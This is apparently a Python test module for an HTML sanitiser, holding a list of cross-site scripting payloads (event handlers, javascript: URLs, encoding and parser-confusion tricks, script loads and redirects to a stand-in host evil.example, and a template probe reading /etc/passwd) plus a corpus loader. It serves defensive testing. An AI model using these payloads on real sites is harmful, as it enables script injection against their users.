"""Attack strings: some of our own making, and those of the corpora where these are present."""

import json
import os
from pathlib import Path

import pytest

CORPORA = Path(os.environ.get("TEST_CORPORA", "../shared/data")) / "xss"

needs_corpora = pytest.mark.skipif(not CORPORA.is_dir(), reason=f"no folder {CORPORA}; set TEST_CORPORA to run this")

OWN = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt/src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' alt='\"><script>alert(1)</script>'>",
    '<img alt="`><img src=x onerror=alert(1)>">',
    "<img srcset='x 1x, javascript:alert(1) 2x' src=/media/x.webp>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<table><td><form action=javascript:alert(1)><button>x</button></form></table>",
    "<form><input autofocus onfocus=alert(1)><isindex type=image src=1 onerror=alert(1)></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#x6a;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\u00adscript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a><a href='blob:http://x/y'>x</a><a href='feed:javascript:alert(1)'>x</a>",
    "<a style='position:fixed;inset:0' class='video' id='location' name='cookie' href='/'>x</a>",
    "<blockquote cite='x\n onmouseover=alert(1)//'>x</blockquote>",
    "<q cite=javascript:alert(1)>x</q><del cite=javascript:alert(1)>x</del>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)></object>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'; * { background: url(javascript:alert(1)) }</style>",
    '<p>https://youtu.be/"onmouseover="alert(1)</p>',
    "<p><a href='https://youtu.be/x'>\"><img src=x onerror=alert(1)></a></p>",
    "<p>https://youtu.be/x'><script>alert(1)</script></p>",
    "<!--<img title='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]><?xml <img src=x onerror=alert(1)> ?>",
    "<b <script>alert(1)</script>0</b",
    '<p lang="\'"><p dir="><script>alert(1)</script>">',
    "</title></textarea></style></script></xmp><img src=x onerror=alert(1)>",
    'https://example.org/"><script>alert(1)</script>',
    "https://example.org/?q='onmouseover='alert(1)",
    "\u202e<img src=x onerror=alert(1)>\u2028\u2029\x00\x0b",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} #{7*7}",
]


def corpora() -> list[str]:
    """Every distinct string of the corpora; none where they are absent."""
    if not CORPORA.is_dir():
        return []
    found = list(json.loads((CORPORA / "blns.json").read_text()))
    for path in sorted(CORPORA.glob("*.jsonl")):
        found += [json.loads(line)["payload"] for line in path.read_text().splitlines()]
    return list(dict.fromkeys(found))
